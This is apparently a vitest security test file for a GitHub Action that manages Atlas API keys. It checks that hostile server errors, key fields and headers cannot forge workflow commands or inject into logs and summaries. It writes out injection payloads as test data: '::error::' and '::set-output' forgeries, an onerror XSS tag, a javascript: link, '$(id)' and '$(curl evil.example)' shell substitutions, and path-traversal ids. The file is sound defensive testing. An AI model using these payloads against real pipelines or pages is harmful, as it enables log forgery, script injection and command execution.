import { describe, expect, it } from 'vitest';
import { errorsIn } from '../action/evidence.ts';
import { keysBeside, type Run } from '../action/scene.ts';
import { attack, expectDefeat, hostileScene, tamperWith } from './hostile-server.ts';

/** Everything that could end a line, start a command, break a table or run in a shell. */
const POISON = [
  'x\n::error::forged',
  '::set-output name=result::forged',
  '\r::add-mask::GROUP',
  'x\u2028::stop-commands::forged',
  'x ##[error]forged',
  '<img src=x onerror=alert(1)>',
  '](javascript:alert(1))',
  '| a | b |\n# forged',
  '`$(id)`',
  '\u001b[31m\u202egnp.exe\u0000',
  'EOF\nresult=forged',
].join(' ');

const OWN_COMMANDS = ['add-mask', 'debug', 'error', 'warning', 'notice'];

describe('hostile text in an error of the service', () => {
  it.concurrent.each([
    [
      'in every field',
      { error: POISON, errorCode: POISON, detail: POISON, reason: POISON, parameters: [POISON] },
    ],
    [
      'beside a known code',
      { errorCode: 'NOT_IN_GROUP', detail: POISON, parameters: [POISON, '1.2.3.4\n::error::x'] },
    ],
    ['in an address', { errorCode: 'IP_ADDRESS_NOT_ON_ACCESS_LIST', parameters: ['::error::forged', '::1'] }],
    ['as a code of its own', { errorCode: '::error::FORGED', detail: 'x'.repeat(100_000) }],
  ])('%s stays text', async (_what, body) => {
    await using scene = await hostileScene();
    const origin = await tamperWith(scene, (answer, { signed }) => {
      if (!signed) return;
      answer.status = 403;
      answer.body = JSON.stringify(body);
    });
    const result = await attack(scene, origin, {}, { debug: true });
    expectDefeat(scene, result, /^Could not list the project's keys: /);
    expectNothingForged(result);
    expect(errorsIn(result.main)[0]?.length).toBeLessThan(1_000);
  });
});

describe('hostile text in a key', () => {
  it('is shown as text in log and summary', async () => {
    await using scene = await hostileScene();
    const key = scene.atlas.addKey({ orgId: scene.orgId, desc: 'x', roles: ['ORG_MEMBER'] });
    const origin = await tamperWith(scene, (answer, { method, target, signed }) => {
      if (method !== 'GET' || !signed || !target.endsWith(key.id)) return;
      answer.body = JSON.stringify({ ...JSON.parse(answer.body), desc: POISON });
    });
    const byId = { apiUserId: key.id, desc: '' };
    const planned = await attack(scene, origin, { ...byId, mode: 'revoke', roles: '', dryRun: 'true' });
    expect(planned.main.outputs, planned.log).toMatchObject({ result: 'planned' });
    expect(planned.main.log).toContain('onerror=alert(1)');
    expectNothingForged(planned);
    const assigned = await attack(scene, origin, byId, { debug: true });
    expect(assigned.main.rawSummary).toContain('onerror');
    expect(assigned.main.outputs).toMatchObject({ result: 'assigned', desc: POISON });
    expectNothingForged({ ...assigned, main: { ...assigned.main, outputs: {} } });
  });

  it.concurrent.each([
    ['an id that is a path', { id: '../../../../orgs/0123456789abcdef01234567' }],
    ['an id that is a query', { id: '0123456789abcdef01234567?x=' }],
    ['an id with a line break', { id: '0123456789abcdef01234567\n' }],
    ['a public key that is a command', { publicKey: '::error::forged' }],
    ['a public key that is a shell script', { publicKey: '$(curl evil.example)' }],
    ['a role that is a command', { roles: [{ roleName: '::error::', groupId: '0123456789abcdef01234567' }] }],
    ['an organisation that is a path', { roles: [{ roleName: 'ORG_MEMBER', orgId: '../x' }] }],
  ])('%s is refused, and nothing is asked for under it', async (_what, change) => {
    await using scene = await hostileScene();
    const targets: string[] = [];
    const origin = await tamperWith(scene, (answer, { target, signed }) => {
      targets.push(target);
      if (!signed || !answer.body.includes('"results"')) return;
      answer.body = JSON.stringify({ results: [{ ...keyLike(scene.groupId, 1), ...change }], totalCount: 1 });
    });
    const result = await attack(scene, origin, {}, { debug: true });
    expectDefeat(scene, result, /the answer \(200\) is not what the API documents/);
    expectNothingForged(result);
    expect(targets.every((target) => /^\/api\/atlas\/v2\/groups\/[0-9a-f]{24}\/apiKeys\?/.test(target))).toBe(
      true,
    );
  });

  it.concurrent.each([
    ['a public key that is a command', { publicKey: 'a\n::error::forged' }],
    ['a private key that is a shell script', { privateKey: '$(curl evil.example/0123456789)' }],
    ['a private key with a line break', { privateKey: '0123456789abcdef\nresult=forged' }],
    ['a private key that is redacted', { privateKey: '********-****-****-85daa09d408a' }],
    ['no private key', { privateKey: undefined }],
    ['an id that is a path', { id: '../..' }],
  ])('just made, with %s, is not handed out and not left behind', async (_what, change) => {
    await using scene = await hostileScene();
    const origin = await tamperWith(scene, (answer, { method, signed }) => {
      if (method !== 'POST' || !signed) return;
      answer.body = JSON.stringify({ ...JSON.parse(answer.body), ...change });
    });
    const result = await attack(scene, origin, {}, { debug: true });
    expectDefeat(scene, result, /the answer \(200\) is not what the API documents/);
    expectNothingForged(result);
    expect(keysBeside(scene)).toEqual([]);
    expect(result.main.outputs.privateKey ?? '').toBe('');
  });
});

describe('hostile headers', () => {
  it('stay unseen', async () => {
    await using scene = await hostileScene();
    const origin = await tamperWith(scene, (answer) => {
      answer.headers.date = 'Fri, 31 Dec 9999 23:59:59 GMT';
      answer.headers['retry-after'] = '::error::';
      answer.headers['set-cookie'] = ['a=::error::', 'b'];
      answer.headers['x-error-code'] = '::error::FORGED';
      answer.headers['authentication-info'] = 'nextnonce="::error::"';
    });
    const result = await attack(scene, origin, { timeout: '5s' }, { debug: true });
    expectNothingForged(result);
    expect(result.main.milliseconds).toBeLessThan(7_000);
  });

  it('a Retry-After of a century is not waited for', async () => {
    await using scene = await hostileScene();
    const origin = await tamperWith(scene, (answer, { signed }) => {
      if (!signed) return;
      answer.status = 429;
      answer.headers['retry-after'] = '999999999';
      answer.body = '{"errorCode":"RATE_LIMITED"}';
    });
    expectDefeat(scene, await attack(scene, origin), /the rate limit is reached/);
  });
});

function keyLike(groupId: string, number: number) {
  return {
    id: number.toString(16).padStart(24, '6'),
    publicKey: 'flezioeg',
    desc: 'deploy',
    roles: [{ roleName: 'GROUP_READ_ONLY', groupId }],
    privateKey: '********-****-****-85daa09d408a',
  };
}

/** Each line is a command of ours or begins with no colon; no output, state or summary but ours. */
function expectNothingForged({ main, post }: Run): void {
  for (const step of [main, ...post]) {
    const lines = step.rawLines.map(({ text }) => text);
    for (const line of lines) {
      expect(line).not.toMatch(/^\s+::|^##\[|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      if (!line.startsWith('::')) expect(line).not.toContain('##[');
    }
    expect(step.commands.filter(({ name }) => !OWN_COMMANDS.includes(name))).toEqual([]);
    expect(step.commands.filter(({ name, data }) => name === 'add-mask' && data === 'GROUP')).toEqual([]);
    expect(Object.values(step.outputs).join('\n')).not.toContain('forged');
    expect(Object.keys(step.state)).toEqual(Object.keys(step.state).filter((name) => name === 'journal'));
    expect(step.rawSummary).not.toMatch(/<img|\]\(|^# forged|`\$/m);
    expect(step.exported).toEqual({});
  }
}
